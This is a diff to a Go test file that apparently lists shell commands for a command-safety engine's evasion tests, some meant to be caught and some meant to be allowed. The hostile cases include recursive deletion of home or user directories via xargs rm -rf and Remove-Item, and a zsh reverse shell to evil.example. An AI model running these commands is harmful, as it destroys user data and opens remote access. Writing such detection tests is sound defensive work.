@@ -113,6 +113,9 @@ func TestDefaultEngineEvasions(t *testing.T) {
 		`[IO.Directory]::Delete("C:\Users", $true)`,
 		`xterm -display evil.example:1`,
 		`zsh -c 'zmodload zsh/net/tcp; ztcp evil.example 4444; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
+		// a listing handed to a deleter deletes what it lists
+		`find ~ -maxdepth 1 -print0 | xargs -0 rm -rf`,
+		`ls -d ~/* | xargs rm -rf`,
 		// PowerShell: listed items piped into Remove-Item; drive paths
 		`Get-ChildItem C:\ -Recurse | Remove-Item -Force`,
 		`Get-ChildItem -Path C:\Users -Recurse | Remove-Item -Recurse -Force`,
@@ -147,6 +150,10 @@ func TestDefaultEngineEvasions(t *testing.T) {
 		`emacs --batch --eval '(message "hi")'`,
 		`vim -c 'call setline(1, "x")' -c wq notes.txt`,
 		`unshare -r id`,
+		`find . -name '*.pyc' | xargs rm -f`,
+		`find dist -maxdepth 1 -print0 | xargs -0 rm -rf`,
+		`find /etc -type f | xargs grep -l nameserver`,
+		`ls src | xargs -n1 basename`,
 		`[IO.File]::ReadAllText(".\README.md")`,
 		`xterm -display :0 -e htop`,
 		`aws s3 cp dist/ s3://my-site-bucket/ --recursive`,
